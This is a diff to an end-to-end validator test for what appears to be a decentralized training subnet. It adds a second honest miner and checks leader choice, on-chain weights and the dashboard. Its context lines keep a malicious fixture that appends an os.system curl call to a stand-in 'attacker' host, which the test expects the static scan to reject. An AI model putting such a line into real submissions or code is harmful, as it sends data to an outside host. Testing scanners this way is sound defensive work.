@@ -38,11 +38,13 @@ let server: Server;
 let codeBase: string;
 let dir: string;
 let hparamsPath: string;
-const keys: Record<"validator" | "good" | "evil", KeyringPair> = {} as never;
+const keys: Record<"validator" | "good" | "good2" | "evil", KeyringPair> = {} as never;
 const mnemonics: Record<string, string> = {};
 
 const GOOD = readFileSync(path.join(REPO, "local_test", "single_gpu", "train.py"));
 const EVIL = Buffer.from(`${GOOD.toString("utf8")}\nimport os\nos.system("curl http://attacker/steal")\n`);
+// A second honest miner: other bytes (so not a content duplicate), the same training.
+const GOOD2 = Buffer.from(`${GOOD.toString("utf8")}\n# the second miner's copy\n`);
 
 function env(): NodeJS.ProcessEnv {
   return { ...process.env, CRUSADES_HPARAMS_PATH: hparamsPath, HOME: dir };
@@ -110,11 +112,11 @@ function readStore<T>(read: (s: ReturnType<typeof openStore> extends infer R ? R
   }
 }
 
-/** Registers the three hotkeys on subnet 1 (uids 0-2; the validator has a permit) by raw storage writes. */
+/** Registers the four hotkeys on subnet 1 (uids 0-3; the validator has a permit) by raw storage writes. */
 async function register(): Promise<void> {
   const sm = (client.api.query as unknown as Record<string, Record<string, { key(...a: unknown[]): string }>>)["subtensorModule"]!;
-  await registerHotkeys(client, dev, NETUID, [keys.validator, keys.good, keys.evil], [
-    [sm["validatorPermit"]!.key(NETUID), "0x0c010000"],
+  await registerHotkeys(client, dev, NETUID, [keys.validator, keys.good, keys.evil, keys.good2], [
+    [sm["validatorPermit"]!.key(NETUID), "0x1001000000"],
     [sm["weightsSetRateLimit"]!.key(NETUID), "0x0000000000000000"],
   ]);
 }
@@ -124,7 +126,7 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
     await cryptoWaitReady();
     dir = mkdtempSync(path.join(tmpdir(), "crusades-e2e-"));
     const keyring = new Keyring({ type: "sr25519", ss58Format: 42 });
-    for (const name of ["validator", "good", "evil"] as const) {
+    for (const name of ["validator", "good", "good2", "evil"] as const) {
       mnemonics[name] = mnemonicGenerate();
       keys[name] = keyring.addFromUri(mnemonics[name]!);
       const hotkeys = path.join(dir, "wallets", name, "hotkeys");
@@ -139,7 +141,7 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
       docker: { num_gpus: 1, memory_limit: "2g", shm_size: "256m" },
     }));
     server = createServer((req, res) => {
-      const body = req.url === "/good.py" ? GOOD : req.url === "/evil.py" ? EVIL : null;
+      const body = req.url === "/good.py" ? GOOD : req.url === "/good2.py" ? GOOD2 : req.url === "/evil.py" ? EVIL : null;
       if (body === null) return void res.writeHead(404).end();
       res.writeHead(200, { "Content-Type": "text/plain" }).end(body);
     });
@@ -179,6 +181,8 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
     expect(refused.stderr).toMatch(/static scan rejects/);
     const forced = await cli(["submit", `${codeBase}/evil.py`, "--plain", "--yes", "--force", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("evil")]);
     expect(forced.status, forced.stderr).toBe(0);
+    const second = await cli(["submit", `${codeBase}/good2.py`, "--plain", "--yes", "--gpus", "1", "--allow-private-hosts", "127.0.0.1", ...walletArgs("good2")]);
+    expect(second.status, second.stderr).toBe(0);
 
     // The chain produces a block every second, as a real one would (chopsticks builds none by itself).
     const ticker = setInterval(() => void dev.send("dev_newBlock", [{ count: 1 }]).catch(() => undefined), 1000);
@@ -192,6 +196,8 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
     await new Promise((r) => validator.once("exit", r));
     const runsBefore = readStore((s) => runsOfSubmission(s, goodId).length)!;
     expect(runsBefore).toBeGreaterThanOrEqual(1);
+    // A run in flight at the kill leaves its container: the restarted validator removes it first.
+    const leftAtKill = (await listEvaluationContainers(new Docker()).unwrapOr([])).length;
 
     validator = startValidator();
     try {
@@ -204,20 +210,35 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
       const runs = readStore((s) => runsOfSubmission(s, goodId))!;
       expect(runs.filter((r) => r.status !== "void")).toHaveLength(RUNS);
       expect(readLog()).toMatch(/re-queued interrupted submissions/);
+      if (leftAtKill > 0) expect(readLog()).toMatch(/removed leftover evaluation containers/);
 
       const evil = await until("the malicious submission to end", 120_000, () =>
         readStore((s) => listSubmissions(s, { specVersion: 19 }).find((x) => x.minerHotkey === keys.evil.address && x.status === "failed")),
       );
       expect(evil.errorCode).toBe("scan_rejected");
       expect(readStore((s) => runsOfSubmission(s, evil.submissionId).length)).toBe(0);
-      expect(readStore((s) => listIngested(s).map((c) => c.outcome).sort())).toEqual(["accepted", "accepted"]);
+      expect(readStore((s) => listIngested(s).map((c) => c.outcome).sort())).toEqual(["accepted", "accepted", "accepted"]);
 
-      // Weights: burn uid 0 and the leader (uid 1) at 0.5 each, read back from the chain.
+      // The second honest miner: evaluated too; the leader is the one §H.4 picks from the two
+      // stored scores (the later one leads only when it beats the first by the threshold).
+      const good2 = await until("the second good submission to finish", 400_000, () =>
+        readStore((s) => listSubmissions(s, { specVersion: 19 }).find((x) => x.minerHotkey === keys.good2.address && (x.status === "finished" || x.status === "failed"))),
+      );
+      expect(good2.status, JSON.stringify(good2)).toBe("finished");
+      const first = readStore((s) => getSubmission(s, goodId))!;
+      const [early, late] = [first, good2].sort((a, b) => a.finishedBlock! - b.finishedBlock! || a.submissionId.localeCompare(b.submissionId));
+      const base = (JSON.parse(readFileSync(hparamsPath, "utf8")) as { adaptive_threshold: { base_threshold: number } }).adaptive_threshold.base_threshold;
+      const expectedLeader = late!.finalScore! > early!.finalScore! * (1 + base) ? late! : early!;
+      const threshold = await (await fetch(`${apiUrl()}/api/stats/threshold`)).json() as { leader_id: string; leader_score: number };
+      expect(threshold).toMatchObject({ leader_id: expectedLeader.submissionId, leader_score: expectedLeader.finalScore });
+      const leaderUid = expectedLeader.minerHotkey === keys.good.address ? 1 : 3;
+
+      // Weights: burn uid 0 and the leader at 0.5 each, read back from the chain.
       const weights = await until("weights naming the leader", 120_000, async () => {
         const w = (await client.readWeights(NETUID, 0)).unwrapOr([]);
-        return w.some(([uid]) => uid === 1) ? w : null;
+        return w.some(([uid]) => uid === leaderUid) ? w : null;
       });
-      expect(weights).toEqual([[0, 65535], [1, 65535]]);
+      expect(weights).toEqual([[0, 65535], [leaderUid, 65535]]);
 
       // The dashboard page served by the validator's API shows the leader (uid 1 and its score).
       const browserMissing = browserUnavailableReason();
@@ -228,9 +249,9 @@ describe.skipIf(skipReason !== null || !builtCli)("validator end to end (chopsti
       try {
         const page = await browser.newPage();
         await page.navigate(`${url}/dashboard`);
-        await page.waitFor(`document.querySelector('[data-testid="leader-uid"]')?.textContent === "1"`);
+        await page.waitFor(`document.querySelector('[data-testid="leader-uid"]')?.textContent === "${leaderUid}"`);
         const top = await page.evaluate<string[]>(`Array.from(document.querySelector('[data-testid="leaderboard-row"]').cells).map((c) => c.textContent)`);
-        expect(top.slice(0, 3)).toEqual(["1", "1", `${finished.finalScore!.toFixed(2)}%`]);
+        expect(top.slice(0, 3)).toEqual(["1", String(leaderUid), `${expectedLeader.finalScore!.toFixed(2)}%`]);
       } finally {
         await browser.close();
       }
